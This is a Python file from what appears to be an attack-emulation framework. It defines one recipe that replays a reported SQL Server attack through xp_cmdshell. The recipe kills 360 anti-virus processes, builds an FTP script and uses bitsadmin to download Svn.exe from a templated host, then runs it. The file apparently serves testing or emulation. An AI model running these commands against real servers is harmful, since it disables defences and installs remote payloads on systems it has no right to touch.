"""The attack on SQL Server that the first article tells: end the anti-virus, fetch by FTP, fetch again by HTTP, run."""

from longtail.fleet.attack import Attack

RECIPES = (
    Attack("article", ("mssql",), ("T1059.003", "T1562.001", "T1105", "T1197", "T1070.004"),
           "the chain of the article, word for word, through xp_cmdshell", r"""
xp: taskkill /im 360rp.exe /f

xp: taskkill /im 360sd.exe /f

xp: taskkill /im 360rps.exe /f

xp=: ntsd -c q -pn 360rp.exe

xp=: ntsd -c q -pn 360sd.exe

xp=: ntsd -c q -pn 360rps.exe

xp: echo open {wan}>So.2

xp: echo 111>>So.2

xp: echo 000>>So.2

xp: echo get Svn.exe >>So.2

xp: echo bye>>So.2

xp=: ftp -s:So.2

xp: del So.2

xp: Svn.exe

xp: bitsadmin /transfer n http://{wan}/Svn.exe c:\Users\Public\Svn.exe

xp: c:\Users\Public\Svn.exe
""", gap=(0.6, 20.0), verbatim=True),
)  # fmt: skip
